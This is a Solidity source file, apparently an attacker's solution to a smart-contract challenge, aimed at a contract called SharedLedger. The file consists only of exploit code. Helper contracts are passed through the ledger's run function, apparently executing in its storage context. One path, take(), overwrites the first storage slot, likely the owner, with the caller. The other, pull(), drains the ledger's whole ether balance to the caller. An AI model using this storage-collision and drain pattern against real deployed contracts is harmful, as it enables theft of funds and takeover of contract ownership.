// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./contract.sol";

contract Rewriter {
    address private first;

    function rewrite(address next) external {
        first = next;
    }
}

contract Payer {
    function pay(address payable to) external {
        (bool paid, ) = to.call{value: address(this).balance}("");
        require(paid);
    }
}

contract Hand {
    SharedLedger private immutable ledger;
    address private immutable tool;

    constructor(SharedLedger target, address with) {
        ledger = target;
        tool = with;
    }

    function pull() external {
        ledger.run(tool, abi.encodeCall(Payer.pay, (payable(msg.sender))));
    }

    function take() external {
        ledger.run(tool, abi.encodeCall(Rewriter.rewrite, (msg.sender)));
    }
}
